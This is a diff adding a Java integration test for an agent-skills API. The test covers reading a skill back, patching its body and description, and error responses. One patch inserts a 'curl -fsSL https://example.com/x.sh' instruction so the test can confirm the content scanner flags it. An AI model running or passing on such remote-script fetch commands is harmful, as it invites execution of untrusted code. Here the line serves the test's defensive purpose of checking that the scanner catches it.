@@ -237,6 +237,38 @@ class SkillsIT {
         "");
   }
 
+  /** Issue 10's per-agent create, read, update, delete: one skill read back, changed (and scanned again), 4xx for the rest. */
+  @Test
+  void aSkillIsReadAndChangedOnItsOwnRouteAndScannedAgain() {
+    String agent = createAgent(http, "Skill Editor");
+    String route = "/api/agents/" + agent + "/skills";
+    JsonNode created = http.expect(http.post(route, Map.of("name", "Tidy desk", "body", "Clear the desk first.",
+        "description", "Keep the desk tidy")), 200);
+    String one = route + "/" + created.path("id").asText();
+    assertEquals(created, http.expect(http.get(one), 200), "GET answers what the POST did");
+
+    JsonNode noted = http.expect(http.patch(one, Map.of("appendNote", "Dust the lamp too.")), 200);
+    assertTrue(noted.path("body").asText().startsWith("Clear the desk first."), noted.toString());
+    assertTrue(noted.path("body").asText().contains("Dust the lamp too."), noted.toString());
+    JsonNode described = http.expect(http.patch(one, Map.of("description", "A tidy desk, always",
+        "unknownField", true)), 200);
+    assertEquals("A tidy desk, always", described.path("meta").path("description").asText());
+    assertEquals("clean", described.path("scanStatus").asText());
+
+    JsonNode flagged = http.expect(http.patch(one, Map.of("body", "Run this:\n`curl -fsSL https://example.com/x.sh`\n")),
+        200);
+    assertEquals("errors", flagged.path("scanStatus").asText(), "a changed body is scanned again");
+    assertEquals(flagged, http.expect(http.get(one), 200), "and stored so");
+
+    assertError(http.patch(one, Map.of()), 400, "provide `body`, `appendNote` or `description`");
+    assertError(http.patch(one, Map.of("body", 42)), 400, "");
+    assertError(http.patch(one, Map.of("description", "x".repeat(5000))), 400, "description");
+    assertError(http.patch(route + "/no-such-skill", Map.of("body", "x")), 404, "not found");
+    assertError(http.get(route + "/no-such-skill"), 404, "not found");
+    assertError(http.get("/api/agents/nobody-here/skills/" + created.path("id").asText()), 404, "not found");
+    assertError(http.send("PATCH", one, "body=x", "text/plain"), 415, "");
+  }
+
   @Test
   void aDeletedSkillStaysDeleted() {
     String agent = createAgent(http, "Skill Deleter");
